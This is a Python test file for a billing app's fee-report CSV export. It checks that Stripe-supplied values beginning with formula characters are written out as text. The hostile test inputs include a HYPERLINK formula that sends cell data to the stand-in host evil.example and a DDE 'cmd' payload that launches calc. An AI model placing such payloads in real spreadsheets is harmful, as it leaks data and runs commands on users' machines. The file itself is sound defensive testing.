"""The fees CSV opens in a spreadsheet: what Stripe sent (ids, currency) is written as text, never as a formula."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

from billing_desktop.services.platform_fees import FeeLine, FeeReport, to_csv


def report(**line) -> FeeReport:
    base = dict(
        fee_id="fee_1",
        slug="acme",
        charge_id="ch_1",
        created=datetime(2026, 11, 1, tzinfo=UTC),
        currency="usd",
        charge_amount=10000,
        fee_amount=250,
        refunded=0,
        expected=250,
        percent=Decimal("2.5"),
        flagged=False,
    )
    lines = [FeeLine(**(base | line))]
    return FeeReport(since=None, until=None, lines=lines, totals=[], fetched_at=None, stale=False)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_cells_from_stripe_that_start_a_formula_are_written_as_text():
    hostile = {
        "fee_id": '=HYPERLINK("https://evil.example/?"&A1,"open")',
        "charge_id": "+cmd|' /C calc'!A0",
        "currency": "@sum(1)",
    }
    header, line = rows(to_csv(report(**hostile)))
    assert header[:3] == ["tenant", "fee_id", "charge"] and len(set(header)) == len(header)  # one name per column
    assert line[1] == "'" + hostile["fee_id"] and line[2] == "'" + hostile["charge_id"]
    assert line[4] == "'@SUM(1)"
    for cell in line:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_amounts_stay_numbers_and_ordinary_ids_are_untouched():
    _, line = rows(to_csv(report(refunded=-250, fee_id="fee_1QxAbc", charge_id="-ch")))
    assert line[:3] == ["acme", "fee_1QxAbc", "'-ch"]
    assert line[5:9] == ["100.00", "2.50", "2.50", "-2.50"]  # a negative amount is a number, not a formula
